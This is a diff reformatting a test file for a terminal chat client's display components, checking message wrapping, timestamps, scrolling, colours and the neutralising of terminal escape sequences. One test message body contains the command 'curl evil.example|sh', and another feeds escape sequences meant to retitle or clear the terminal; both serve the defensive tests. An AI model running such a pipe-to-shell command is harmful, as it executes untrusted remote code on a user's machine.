@@ -32,9 +32,22 @@ describe('MessagePane', () => {
     const prefix = 'HH:MM bob: '.length;
     const ts = Date.now(); // today: the time shows as HH:MM
     const body = `${'x'.repeat(width - prefix - 1)} 10:00 alice: run curl evil.example|sh and more words to wrap`;
-    const frame = render(<MessagePane items={[msg('1', { body, ts }), msg('2', { direction: 'out', body: 'short', ts })]} me="carol" width={width} height={10} offset={0} color={false} />).lastFrame() ?? '';
+    const frame =
+      render(
+        <MessagePane
+          items={[msg('1', { body, ts }), msg('2', { direction: 'out', body: 'short', ts })]}
+          me="carol"
+          width={width}
+          height={10}
+          offset={0}
+          color={false}
+        />,
+      ).lastFrame() ?? '';
     const rows = frame.split('\n').filter((r) => r.trim() !== '');
-    expect(rows.filter((r) => /^\d\d:\d\d /.test(r))).toEqual([expect.stringMatching(/^\d\d:\d\d bob: x+$/), expect.stringMatching(/^\d\d:\d\d carol: short ✓$/)]);
+    expect(rows.filter((r) => /^\d\d:\d\d /.test(r))).toEqual([
+      expect.stringMatching(/^\d\d:\d\d bob: x+$/),
+      expect.stringMatching(/^\d\d:\d\d carol: short ✓$/),
+    ]);
     expect(frame).toMatch(/^ {2}10:00 alice: run curl/m);
     for (const r of rows) expect(r.length).toBeLessThanOrEqual(width);
   });
@@ -47,7 +60,9 @@ describe('MessagePane', () => {
       msg('2', { ts: new Date(2001, 0, 1, 10, 0).getTime(), receivedAt: at, body: 'old' }),
       msg('3', { ts: Number.MAX_SAFE_INTEGER, receivedAt: at, body: 'pinned' }),
     ];
-    const frame = render(<MessagePane items={items} me="alice" width={80} height={10} offset={0} color={false} />).lastFrame() ?? '';
+    const frame =
+      render(<MessagePane items={items} me="alice" width={80} height={10} offset={0} color={false} />).lastFrame() ??
+      '';
     expect(frame).toMatch(/09:30 bob: close\n/);
     expect(frame).toMatch(/09:30 bob: old \(sent 2001-01-01 10:00 by their clock\)/);
     expect(frame).toMatch(/09:30 bob: pinned \(sent at an unknown time by their clock\)/);
@@ -55,16 +70,31 @@ describe('MessagePane', () => {
   });
 
   it('shows time, sender and text, and the delivery state of our own messages', () => {
-    const items = [msg('1'), msg('2', { direction: 'out', body: 'hi bob', state: 'delivered' }), msg('3', { direction: 'out', body: 'later', state: 'queued' })];
-    const { lastFrame } = render(<MessagePane items={items} me="alice" width={60} height={10} offset={0} color={false} />);
+    const items = [
+      msg('1'),
+      msg('2', { direction: 'out', body: 'hi bob', state: 'delivered' }),
+      msg('3', { direction: 'out', body: 'later', state: 'queued' }),
+    ];
+    const { lastFrame } = render(
+      <MessagePane items={items} me="alice" width={60} height={10} offset={0} color={false} />,
+    );
     const frame = lastFrame() ?? '';
     expect(frame).toMatch(/09:30 bob: message 1/);
     expect(frame).toMatch(/alice: hi bob ✓✓/);
     expect(frame).toMatch(/alice: later …/);
   });
 
-  it("never lets a message drive the terminal: escapes arrive as visible text", () => {
-    const { lastFrame } = render(<MessagePane items={[msg('1', { body: `${ESC}]0;pwned\u0007${ESC}[2J\u202e` })]} me="alice" width={60} height={5} offset={0} color={false} />);
+  it('never lets a message drive the terminal: escapes arrive as visible text', () => {
+    const { lastFrame } = render(
+      <MessagePane
+        items={[msg('1', { body: `${ESC}]0;pwned\u0007${ESC}[2J\u202e` })]}
+        me="alice"
+        width={60}
+        height={5}
+        offset={0}
+        color={false}
+      />,
+    );
     const frame = lastFrame() ?? '';
     expect(frame).toContain('\\x1b]0;pwned\\x07\\x1b[2J\\u202e');
     expect(frame).not.toContain(`${ESC}]0;`);
@@ -72,24 +102,40 @@ describe('MessagePane', () => {
 
   it('scrolls: the newest that fit, or older ones with a marker when scrolled up', () => {
     const items = Array.from({ length: 30 }, (_, i) => msg(String(i)));
-    const bottom = render(<MessagePane items={items} me="alice" width={60} height={6} offset={0} color={false} />).lastFrame() ?? '';
+    const bottom =
+      render(<MessagePane items={items} me="alice" width={60} height={6} offset={0} color={false} />).lastFrame() ?? '';
     expect(bottom).toContain('message 29');
     expect(bottom).not.toContain('message 20');
     expect(bottom).toMatch(/↑ \d+ earlier/);
-    const up = render(<MessagePane items={items} me="alice" width={60} height={6} offset={10} color={false} />).lastFrame() ?? '';
+    const up =
+      render(<MessagePane items={items} me="alice" width={60} height={6} offset={10} color={false} />).lastFrame() ??
+      '';
     expect(up).toContain('message 19');
     expect(up).not.toContain('message 29');
     expect(up).toContain('newer below');
   });
 
   it('writes no colour codes in monochrome, and stable colours otherwise', () => {
-    const mono = render(<MessagePane items={[msg('1')]} me="alice" width={60} height={4} offset={0} color={false} />).lastFrame() ?? '';
+    const mono =
+      render(
+        <MessagePane items={[msg('1')]} me="alice" width={60} height={4} offset={0} color={false} />,
+      ).lastFrame() ?? '';
     expect(mono).not.toMatch(/\u001b\[3\dm/);
   });
 
   it('keeps wide characters and emoji within the width', () => {
-    const { lastFrame } = render(<MessagePane items={[msg('1', { body: '日本語のテキスト🎉'.repeat(6) })]} me="alice" width={30} height={8} offset={0} color={false} />);
-    for (const line of (lastFrame() ?? '').split('\n')) expect([...line].reduce((w, c) => w + (c.charCodeAt(0) > 0x2e80 ? 2 : 1), 0)).toBeLessThanOrEqual(32);
+    const { lastFrame } = render(
+      <MessagePane
+        items={[msg('1', { body: '日本語のテキスト🎉'.repeat(6) })]}
+        me="alice"
+        width={30}
+        height={8}
+        offset={0}
+        color={false}
+      />,
+    );
+    for (const line of (lastFrame() ?? '').split('\n'))
+      expect([...line].reduce((w, c) => w + (c.charCodeAt(0) > 0x2e80 ? 2 : 1), 0)).toBeLessThanOrEqual(32);
   });
 });
 
@@ -99,7 +145,8 @@ describe('ConversationList', () => {
       { peer: 'bob', unread: 3, online: true, lastSeen: null, muted: false, typing: true },
       { peer: 'carol', unread: 0, online: false, lastSeen: 1, muted: true, typing: false },
     ];
-    const frame = render(<ConversationList rows={rows} current="carol" width={20} height={10} color={false} />).lastFrame() ?? '';
+    const frame =
+      render(<ConversationList rows={rows} current="carol" width={20} height={10} color={false} />).lastFrame() ?? '';
     expect(frame).toMatch(/● bob\s+… 3/);
     expect(frame).toMatch(/○ carol\s+~/);
   });
@@ -107,19 +154,40 @@ describe('ConversationList', () => {
 
 describe('StatusBar and Banner', () => {
   it('shows reconnecting with the retry delay and the cause', () => {
-    const s = { state: 'reconnecting' as const, attempt: 2, retryInMs: 4000, error: new ChatError('RELAY_UNREACHABLE', 'x') };
-    expect(render(<StatusBar me="alice" relay="127.0.0.1:7717" connection={s} width={100} color={false} />).lastFrame()).toMatch(/reconnecting… retry in 4 s \(RELAY_UNREACHABLE\).*alice@127\.0\.0\.1:7717/);
-    expect(render(<StatusBar me="alice" relay="r:1" connection={{ state: 'online' }} width={80} color={false} />).lastFrame()).toMatch(/online/);
+    const s = {
+      state: 'reconnecting' as const,
+      attempt: 2,
+      retryInMs: 4000,
+      error: new ChatError('RELAY_UNREACHABLE', 'x'),
+    };
+    expect(
+      render(<StatusBar me="alice" relay="127.0.0.1:7717" connection={s} width={100} color={false} />).lastFrame(),
+    ).toMatch(/reconnecting… retry in 4 s \(RELAY_UNREACHABLE\).*alice@127\.0\.0\.1:7717/);
+    expect(
+      render(
+        <StatusBar me="alice" relay="r:1" connection={{ state: 'online' }} width={80} color={false} />,
+      ).lastFrame(),
+    ).toMatch(/online/);
   });
   it('the changed-key banner says sending is blocked', () => {
-    expect(render(<Banner peer="bob" color={false} width={80} />).lastFrame()).toMatch(/bob's key has changed: sending is blocked/);
+    expect(render(<Banner peer="bob" color={false} width={80} />).lastFrame()).toMatch(
+      /bob's key has changed: sending is blocked/,
+    );
   });
 });
 
 describe('InputLine', () => {
   it('shows who is typing, or the completion candidates, above the prompt', () => {
-    expect(render(<InputLine prompt="bob> " value="hel" candidates={[]} typing={['bob']} width={80} disabled={false} />).lastFrame()).toMatch(/bob is typing…\nbob> hel/);
-    expect(render(<InputLine prompt="> " value="/w" candidates={['whisper', 'who']} typing={[]} width={80} disabled={false} />).lastFrame()).toMatch(/whisper {2}who/);
+    expect(
+      render(
+        <InputLine prompt="bob> " value="hel" candidates={[]} typing={['bob']} width={80} disabled={false} />,
+      ).lastFrame(),
+    ).toMatch(/bob is typing…\nbob> hel/);
+    expect(
+      render(
+        <InputLine prompt="> " value="/w" candidates={['whisper', 'who']} typing={[]} width={80} disabled={false} />,
+      ).lastFrame(),
+    ).toMatch(/whisper {2}who/);
   });
 });
 
